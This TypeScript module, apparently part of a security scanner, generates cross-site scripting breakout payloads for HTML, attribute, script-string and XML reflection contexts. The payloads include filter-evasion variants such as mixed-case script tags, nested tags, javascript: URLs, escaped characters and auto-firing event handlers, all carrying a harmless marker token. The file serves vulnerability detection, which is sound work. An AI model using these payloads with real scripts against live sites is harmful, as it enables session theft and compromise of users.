import type { Quote, ReflectionContext, ScriptContext } from './reflection-contexts.ts';
import { xhtmlNamespace } from './xml-proof.ts';
import type { XmlPlace } from './xml-proof.ts';

/** A value to send, and what must then be found as code in a place that runs script. */
export interface Breakout {
  readonly payload: string;
  readonly code: string;
}

/**
 * Values that leave the context and make the browser run `token`, a name that means nothing: enough to show that script
 * runs, and harmless where it does. Few for each context, the likeliest first. With `call` the name must be called: on
 * pages where plain letters of the value already are code, a name alone would prove nothing.
 */
export function breakoutsFrom(context: ReflectionContext, token: string, call: boolean): Breakout[] {
  const code = call ? `${token}(1)` : token;
  return payloads(context, token, code).map((payload) => ({ payload, code: payload.includes(code) ? code : token }));
}

/** True for contexts in which plain letters and digits are code already. */
export function isCodeContext(context: ReflectionContext): boolean {
  return 'state' in context && context.state === 'code';
}

function payloads(context: ReflectionContext, token: string, code: string): string[] {
  const elements = [
    `<img src=x onerror=${code}>`,
    `<svg/onload=${code}>`,
    `<ScRiPt>${code}</ScRiPt>`,
    `<img\nsrc=x\nonerror=${code}>`,
  ];
  switch (context.kind) {
    case 'text':
      return [...elements, encodeURIComponent(elements[0] ?? ''), ...throughFilters(code), ...singleElements(code)];
    case 'raw-text':
      return elements.slice(0, 2).map((element) => `</${context.element}>${element}`);
    case 'comment':
      return [`-->${elements[0]}`, `--!>${elements[1]}`];
    case 'tag-name':
      return [`img src=x onerror=${code} `, `script>${code}</script>`];
    case 'attribute-name':
      return [`x tabindex=1 autofocus onfocus=${code} x`, `x>${elements[0]}`];
    case 'attribute': {
      const end = endOfValue(context.quote);
      const outOfTag = elements.map((element) => `${context.quote}>${element}`);
      const newAttribute = `${end} tabindex=1 autofocus onfocus=${code} x=${context.quote}`;
      const special = {
        plain: [],
        url: [`javascript:${code}`, `JaVaScRiPt:${code}//`, `java\tscript:${code}`, `javajavascript:script:${code}`],
        'script-source': [`//${token}.example/`],
        srcdoc: elements.slice(0, 2),
      }[context.role];
      // A hidden field takes no focus, but browsers with content-visibility fire this one without the user.
      const onHidden = `${end} oncontentvisibilityautostatechange=${code} style=content-visibility:auto x=${context.quote}`;
      const late = [encodeURIComponent(outOfTag[0] ?? ''), escaped(outOfTag[0] ?? ''), references(outOfTag[0] ?? '')];
      return [...special, ...outOfTag.slice(0, 1), newAttribute, onHidden, ...outOfTag.slice(1), ...late];
    }
    case 'handler':
      return [
        ...outOfState(context.state, code),
        `${context.quote}>${elements[0]}`,
        `${endOfValue(context.quote)} onfocus=${code} x=${context.quote}`,
      ];
    case 'script':
      return [...outOfState(context.state, code), `</script>${elements[0]}`];
    case 'xml':
      return outOfXml(context.place, code);
  }
}

/** Without quotes a space ends a value only where something is before it: else what follows becomes the value. */
function endOfValue(quote: Quote): string {
  return quote === '' ? 'x' : quote;
}

const names = 'a body div iframe input video details object form math select marquee audio style meta b';

/** Markup that passes filters of some tags, of handlers, of a word that is removed once, of complete tags. */
function throughFilters(code: string): string[] {
  const manyNames = names.split(' ').map((name) => `<${name} autofocus tabindex=1 onfocus=${code}>`);
  return [
    manyNames.join(''),
    `<a href="javascript:${code}">x</a><iframe src="javascript:${code}"></iframe>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<img src=x onerror=${code} `,
    `<details open ontoggle=${code}><marquee onstart=${code}><video><source onerror=${code}></video><svg><animate onbegin=${code} attributeName=x dur=1s></svg><body onpageshow=${code}>`,
    escaped(`<img src=x onerror=${code}>`),
    references(`<img src=x onerror=${code}>`),
  ];
}

/** One element each, for filters that reject a value with any element that they do not know. */
export function singleElements(code: string): string[] {
  return [
    `<script>${code}</script>`,
    `<a href="javascript:${code}">x</a>`,
    `<body onload=${code}>`,
    `<iframe src="javascript:${code}"></iframe>`,
    `<b onpointerenter=${code}>x</b>`,
    `<div tabindex=1 autofocus onfocus=${code}>x</div>`,
    `<input autofocus onfocus=${code}>`,
    `<form action="javascript:${code}"><button>x</button></form>`,
    `<x-y style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=${code}>x</x-y>`,
  ];
}

/** Escapes of JavaScript and JSON, which some servers decode. */
function escaped(markup: string): string {
  return markup.replace(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`);
}

/** Character references of HTML, which some servers decode. */
function references(markup: string): string {
  return markup.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);
}

/** XML has no elements that fail to load and fire: a script element of XHTML runs in any document. */
function outOfXml(place: XmlPlace, code: string): string[] {
  const script = `<x:script xmlns:x="${xhtmlNamespace}">${code}</x:script>`;
  switch (place.kind) {
    case 'text':
      return [script, encodeURIComponent(script)];
    case 'cdata':
      return [`]]>${script}<![CDATA[`];
    case 'comment':
      return [`-->${script}<!--`];
    case 'attribute': {
      const { quote } = place;
      const handlers = ['onload', 'onfocus'].map((name) => `${name}=${quote}${code}${quote}`).join(' ');
      const handler = `${quote} ${handlers} tabindex=${quote}1${quote} autofocus=${quote}1`;
      return [...(place.isLink ? [`javascript:${code}`] : []), `${quote}>${script}<y x=${quote}`, handler];
    }
  }
}

function outOfState(state: ScriptContext['state'], code: string): string[] {
  switch (state) {
    case 'single':
      return [`'-${code}-'`, `\\'-${code}//`, `&#39;-${code}-&#39;`, `\\u0027-${code}-\\u0027`];
    case 'double':
      return [`"-${code}-"`, `\\"-${code}//`, `&quot;-${code}-&quot;`, `\\u0022-${code}-\\u0022`];
    case 'template':
      return [`\${${code}}`, `\`-${code}-\``];
    case 'line-comment':
      return [`\n${code}//`];
    case 'block-comment':
      return [`*/${code}/*`];
    case 'regex':
      // Not the slash first: where it begins the literal, that would be a comment.
      return [`x/-${code}-/x`];
    case 'code':
      return [code, `1;${code}//`];
    case 'broken':
      return [];
  }
}
